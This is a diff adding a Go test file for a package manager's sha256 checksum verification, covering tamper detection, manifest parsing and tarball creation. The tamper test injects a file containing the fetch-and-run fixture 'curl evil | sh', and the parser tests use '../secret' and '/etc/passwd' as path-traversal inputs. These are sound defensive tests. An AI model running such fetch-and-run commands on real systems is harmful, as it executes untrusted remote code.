@@ -0,0 +1,145 @@
+package packageManager
+
+import (
+	"archive/tar"
+	"compress/gzip"
+	"crypto/sha256"
+	"encoding/hex"
+	"io"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// writeChecksums writes the checksums manifest of the files of writePkgFiles into the package
+func writeChecksums(t *testing.T, pkgPath string, files map[string]string) {
+	t.Helper()
+	contents := make(map[string][]byte, len(files))
+	for name, content := range files {
+		contents[name] = []byte(content)
+	}
+	require.NoError(t, os.WriteFile(filepath.Join(pkgPath, ChecksumsFileName), checksumsManifest(contents), 0644))
+}
+
+func TestLoadPackageFromDir_Checksums(t *testing.T) {
+	files := map[string]string{
+		"margo.yaml":              testDescription,
+		"resources/readme.md":     "readme",
+		"resources/docs/guide.md": "guide",
+	}
+	pkgPath := writePkgFiles(t, files)
+	writeChecksums(t, pkgPath, files)
+
+	pm := NewPackageManager()
+	pkg, err := pm.LoadPackageFromDir(pkgPath)
+	require.NoError(t, err)
+	assert.Len(t, pkg.Resources, 2, "the manifest is not a resource")
+
+	require.NoError(t, os.WriteFile(filepath.Join(pkgPath, "resources", "readme.md"), []byte("tampered"), 0644))
+	require.NoError(t, os.Remove(filepath.Join(pkgPath, "resources", "docs", "guide.md")))
+	require.NoError(t, os.WriteFile(filepath.Join(pkgPath, "resources", "extra.sh"), []byte("curl evil | sh"), 0644))
+
+	_, err = pm.LoadPackageFromDir(pkgPath)
+	var checksumErr *ChecksumError
+	require.ErrorAs(t, err, &checksumErr)
+	assert.Equal(t, []ChecksumMismatch{
+		{Path: "resources/docs/guide.md", Reason: ChecksumMissing},
+		{Path: "resources/extra.sh", Reason: ChecksumNotListed},
+		{Path: "resources/readme.md", Reason: ChecksumModified},
+	}, checksumErr.Mismatches)
+	assert.ErrorContains(t, err, "resources/readme.md (modified)")
+
+	_, err = pm.LoadPackageFromDir(pkgPath, LoadOptions{SkipChecksums: true})
+	assert.NoError(t, err, "the verification is opt-out")
+}
+
+func TestLoadPackageFromDir_ChecksumsOfNestedDescription(t *testing.T) {
+	files := map[string]string{
+		"deploy/application.yaml": testDescription,
+		"deploy/resources/icon":   "icon",
+	}
+	pkgPath := writePkgFiles(t, files)
+	writeChecksums(t, pkgPath, files)
+
+	_, err := NewPackageManager().LoadPackageFromDir(pkgPath, LoadOptions{DescriptorPath: "deploy/application.yaml"})
+	assert.NoError(t, err, "the manifest paths are relative to the package root")
+}
+
+func TestParseChecksums(t *testing.T) {
+	digest := sha256.Sum256([]byte("readme"))
+	valid := hex.EncodeToString(digest[:])
+
+	digests, err := parseChecksums([]byte("# generated\n\n" + valid + "  resources/readme.md\n" + valid + " *margo.yaml\n"))
+	require.NoError(t, err)
+	assert.Equal(t, map[string]string{"resources/readme.md": valid, "margo.yaml": valid}, digests)
+
+	for manifest, wantErr := range map[string]string{
+		"abc  margo.yaml\n":       "line 1: expected a sha256 digest and a path",
+		valid + "\n":              "line 1: expected a sha256 digest and a path",
+		valid + "  ../secret\n":   "not within the package",
+		valid + "  /etc/passwd\n": "not within the package",
+		valid + "  margo.yaml\n" + valid + "  ./margo.yaml\n": "line 2: margo.yaml is listed more than once",
+	} {
+		_, err := parseChecksums([]byte(manifest))
+		assert.ErrorContains(t, err, wantErr, manifest)
+	}
+
+	pkgPath := writePkgFiles(t, map[string]string{"margo.yaml": testDescription, ChecksumsFileName: "not a manifest\n"})
+	_, err = NewPackageManager().LoadPackageFromDir(pkgPath)
+	assert.ErrorContains(t, err, "invalid margo.sha256")
+}
+
+func TestCreatePackage_WriteChecksums(t *testing.T) {
+	pm := NewPackageManager()
+	outputPath := t.TempDir()
+	pkg := newTestPkg("1.0.0")
+	pkg.Resources[filepath.Join("docs", "guide.md")] = []byte("guide")
+	require.NoError(t, pm.CreatePackage(*pkg.Description, pkg.Resources, outputPath, CreateOptions{WriteChecksums: true}))
+
+	files := map[string][]byte{}
+	for _, name := range []string{"margo.yaml", "resources/readme.md", "resources/docs/guide.md"} {
+		content, err := os.ReadFile(filepath.Join(outputPath, filepath.FromSlash(name)))
+		require.NoError(t, err)
+		files[name] = content
+	}
+	assert.NoError(t, verifyChecksums(outputPath, files))
+
+	withoutChecksums := t.TempDir()
+	require.NoError(t, pm.CreatePackage(*pkg.Description, pkg.Resources, withoutChecksums))
+	assert.NoFileExists(t, filepath.Join(withoutChecksums, ChecksumsFileName))
+}
+
+func TestPackageToTarball_WriteChecksums(t *testing.T) {
+	tarball := filepath.Join(t.TempDir(), "app.tar.gz")
+	require.NoError(t, NewPackageManager().PackageToTarball(newTestPkg("1.0.0"), tarball, CreateOptions{WriteChecksums: true}))
+
+	f, err := os.Open(tarball)
+	require.NoError(t, err)
+	defer f.Close()
+	gz, err := gzip.NewReader(f)
+	require.NoError(t, err)
+	entries := map[string][]byte{}
+	reader := tar.NewReader(gz)
+	for {
+		header, err := reader.Next()
+		if err == io.EOF {
+			break
+		}
+		require.NoError(t, err)
+		content, err := io.ReadAll(reader)
+		require.NoError(t, err)
+		entries[header.Name] = content
+	}
+
+	require.Contains(t, entries, ChecksumsFileName)
+	digests, err := parseChecksums(entries[ChecksumsFileName])
+	require.NoError(t, err)
+	assert.Len(t, digests, 2)
+	for name, want := range digests {
+		digest := sha256.Sum256(entries[name])
+		assert.Equal(t, want, hex.EncodeToString(digest[:]), name)
+	}
+}